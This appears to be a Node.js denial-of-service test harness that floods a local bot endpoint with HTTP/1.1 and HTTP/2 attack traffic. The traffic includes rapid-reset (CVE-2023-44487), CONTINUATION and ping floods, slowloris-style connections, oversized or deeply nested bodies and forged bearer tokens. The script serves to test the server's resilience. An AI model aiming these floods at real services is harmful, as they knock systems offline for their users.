// A stranger: a process of its own that sends one kind of traffic to a port of this machine, without a good token, for so many
// seconds. Prints how much it sent.
//
//   node checks/attack/attacker.mjs KIND PORT MANAGEMENT-PORT SECONDS
//
// With SINK as KIND, this is a server that reads everything and does nothing with it. The comparison shows how much of the
// harm comes from sharing a machine with the attacker.
import crypto from 'node:crypto';
import http from 'node:http';
import http2 from 'node:http2';
import net from 'node:net';
import os from 'node:os';

// Runs at low priority: a real attacker would be on another machine.
os.setPriority(os.getPriority() + 5);

const [kind, port, management, seconds] = [process.argv[2], ...process.argv.slice(3).map(Number)];
const end = performance.now() + seconds * 1000;
const going = () => performance.now() < end;
const pause = ms => new Promise(done => setTimeout(done, ms));
const word = length => crypto.randomBytes(length).toString('hex').slice(0, length).toUpperCase();
let sent = 0;

/** Keeps a connection open, opens it again when it is closed, and writes to it with backpressure. With `each`, `next` makes the bytes of one connection. */
async function flood(next, { connections = 8, batch = 50, to = () => port, each = false } = {}) {
  await Promise.all(Array.from({ length: connections }, async () => {
    while (going()) {
      const piece = each ? next() : next;
      const socket = net.connect(to(), '127.0.0.1').setMaxListeners(0).on('error', () => {}).on('data', () => {});
      const closed = new Promise(done => socket.once('close', done));
      let open = true;
      closed.then(() => { open = false; });
      while (going() && open) {
        for (let index = 0; index < batch; index++) {
          const data = piece();
          if (data === undefined) socket.end();
          else socket.write(data);
          sent++;
        }
        if (socket.writableNeedDrain) await Promise.race([new Promise(done => socket.once('drain', done)), closed, pause(1000)]);
        else await pause(1);
      }
      socket.destroy();
      await pause(1);
    }
  }));
}

/** Many connections at once, each kept open with little. */
async function hold(count, opening, drip) {
  const open = new Set();
  const timer = setInterval(() => open.forEach(socket => socket.write(drip())), 2000);
  while (going()) {
    while (open.size < count && going()) {
      const socket = net.connect(port, '127.0.0.1');
      open.add(socket);
      socket.on('error', () => {}).on('data', () => {}).on('close', () => open.delete(socket));
      socket.write(opening());
      sent++;
      if (sent % 200 === 0) await pause(20);
    }
    await pause(100);
  }
  clearInterval(timer);
  process.stderr.write(`open ${open.size}\n`);
  open.forEach(socket => socket.destroy());
}

/** Streams of HTTP/2 without TLS, by prior knowledge. */
async function streams(headersOf, { reset = false, to = () => port } = {}) {
  await Promise.all(Array.from({ length: 4 }, async () => {
    while (going()) {
      const session = http2.connect(`http://127.0.0.1:${to()}`).on('error', () => {});
      const closed = new Promise(done => session.once('close', done));
      let open = true;
      closed.then(() => { open = false; });
      while (going() && open && !session.destroyed) {
        const batch = Array.from({ length: 50 }, () => new Promise(done => {
          sent++;
          try {
            const stream = session.request(headersOf());
            stream.on('error', () => {}).on('close', done).resume();
            if (reset) stream.close(http2.constants.NGHTTP2_CANCEL);
            else stream.end();
          } catch {
            done();
          }
        }));
        await Promise.race([Promise.all(batch), closed, pause(2000)]);
      }
      session.destroy();
      await pause(1);
    }
  }));
}

const plain = (method, path, headers = '') => `${method} ${path} HTTP/1.1\r\nHost: parley\r\n${headers}Content-Length: 0\r\n\r\n`;
const forged = () => `eyJhbGciOiJSUzI1NiIsImtpZCI6ImtleSJ9.${Buffer.from(JSON.stringify({ iss: 'https://api.botframework.com', aud: 'x', exp: 9e9, jti: word(16) })).toString('base64url')}.${crypto.randomBytes(256).toString('base64url')}`;
const activity = JSON.stringify({ type: 'message', id: '1', channelId: 'msteams', serviceUrl: 'https://smba.trafficmanager.net/amer/', conversation: { id: 'a' }, from: { id: 'b' }, recipient: { id: 'c' }, text: 'hello' });
const message = (headers = '') => `POST /api/messages HTTP/1.1\r\nHost: parley\r\nContent-Type: application/json\r\nContent-Length: ${activity.length}\r\n${headers}\r\n${activity}`;
const large = Buffer.from(`POST /api/messages HTTP/1.1\r\nHost: parley\r\nContent-Type: application/json\r\nContent-Length: 250000\r\n\r\n{"type":"message","text":"${'x'.repeat(249_972)}"}`);
const either = () => (sent % 2 ? port : management);
// A frame of HTTP/2: length, type, flags, stream.
const frame = (type, flags, stream, payload) => Buffer.concat([Buffer.from([payload.length >> 16, payload.length >> 8, payload.length, type, flags, stream >> 24, stream >> 16, stream >> 8, stream]), payload]);
const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]);
/** An HTTP/2 connection that sends frames as fast as it can. `next` makes each frame from its number. */
const frames = (next, batch = 500) => flood(() => {
  let count = 0;
  return () => (count++ === 0 ? preface : next(count));
}, { connections: 4, batch, each: true });
// POST, http, /api/messages without indexing, parley as authority.
const block = Buffer.concat([Buffer.from([0x83, 0x86, 0x04, 13]), Buffer.from('/api/messages'), Buffer.from([0x01, 6]), Buffer.from('parley')]);

const kinds = {
  methods: () => flood(() => plain(word(2000), '/api/messages'), { to: either }),
  paths: () => flood(() => plain('GET', `/${word(40)}`), { to: either }),
  'matrix-parameters': () => flood(() => plain('OPTIONS', `/api/messages;b=${word(20)}`)),
  spellings: () => flood(() => plain('OPTIONS', `/api/${['%3B', '..;/', './', '/', '%2e/', '%2F'][sent % 6]}${word(8)}/../messages`), { to: either }),
  'hosts-and-types': () => flood(() => `POST /api/messages HTTP/1.1\r\nHost: ${word(20)}\r\nContent-Type: x/${word(20)}\r\nUser-Agent: ${word(20)}\r\nContent-Length: 2\r\n\r\n{}`, { to: either }),
  'http2-methods': () => streams(() => ({ ':method': word(1000), ':path': '/api/messages', ':authority': word(8) }), { to: either }),
  'http2-paths': () => streams(() => ({ ':method': 'OPTIONS', ':path': `/api/messages;${word(20)}` }), { to: either }),
  'http2-rapid-reset': () => streams(() => ({ ':method': 'POST', ':path': '/api/messages', 'content-type': 'application/json' }), { reset: true }),
  // Each stream is opened and taken back at once (CVE-2023-44487), or made to fail by its client so that the server takes it back.
  'http2-resets': () => frames(count => Buffer.concat([frame(1, 0x4, count * 2 - 3, block), frame(3, 0, count * 2 - 3, Buffer.from([0, 0, 0, 8]))])),
  'http2-made-resets': () => frames(count => Buffer.concat([frame(1, 0x4, count * 2 - 3, block), frame(8, 0, count * 2 - 3, Buffer.alloc(4))])),
  // Headers that never end.
  'http2-continuations': () => frames(count => (count === 2 ? frame(1, 0, 1, Buffer.from([0x83])) : frame(9, 0, 1, Buffer.concat([Buffer.from([0x00, 0x08]), Buffer.from(word(8)), Buffer.from([0x08]), Buffer.from(word(8))])))),
  'http2-empty-continuations': () => frames(count => (count === 2 ? frame(1, 0, 1, Buffer.from([0x83])) : frame(9, 0, 1, Buffer.alloc(0)))),
  'http2-pings': () => frames(() => frame(6, 0, 0, Buffer.alloc(8))),
  'http2-settings': () => frames(count => frame(4, 0, 0, Buffer.from([0, 4, 0, 1, count >> 8, count]))),
  'http2-empty-data': () => frames(count => (count === 2 ? frame(1, 0x4, 1, block) : frame(0, 0, 1, Buffer.alloc(0)))),
  'endless-headers': () => hold(4000, () => 'POST /api/messages HTTP/1.1\r\nHost: parley\r\nX-Slow: ', () => 'x'),
  'silent-connections': () => hold(4000, () => '', () => ''),
  'slow-bodies': () => hold(2000, () => 'POST /api/messages HTTP/1.1\r\nHost: parley\r\nContent-Type: application/json\r\nContent-Length: 200000\r\n\r\n{"type":"', () => 'x'),
  'tiny-chunks': () => flood(() => {
    let begun = false;
    return () => {
      const data = begun ? '1\r\nx\r\n' : 'POST /api/messages HTTP/1.1\r\nHost: parley\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n';
      begun = true;
      return data;
    };
  }, { batch: 500, each: true }),
  pipelined: () => flood(() => message(), { connections: 4, batch: 2000 }),
  'large-bodies': () => flood(() => large, { batch: 2 }),
  'forged-tokens': () => flood(() => message(`Authorization: Bearer ${forged()}\r\n`), { batch: 10 }),
  'long-tokens': () => flood(() => message(`Authorization: Bearer ${'e'.repeat(7000)}\r\n`), { batch: 10 }),
  'deep-json': () => flood(() => `POST /api/messages HTTP/1.1\r\nHost: parley\r\nContent-Type: application/json\r\nContent-Length: 200000\r\n\r\n${'['.repeat(200_000)}`, { batch: 2 }),
  connections: () => flood(() => undefined, { connections: 64, batch: 1 }),
};

async function sink() {
  http.createServer((request, response) => request.resume().on('end', () => response.writeHead(401).end()).on('error', () => {})).on('clientError', (_, socket) => socket.destroy()).listen(port, '127.0.0.1', 4096);
  await pause(seconds * 1000);
}

if (process.argv[2] === 'list') process.stdout.write(Object.keys(kinds).join(' ') + '\n');
else {
  await (kind === 'SINK' ? sink() : kinds[kind]());
  process.stdout.write(`${sent}\n`);
  process.exit(0);
}
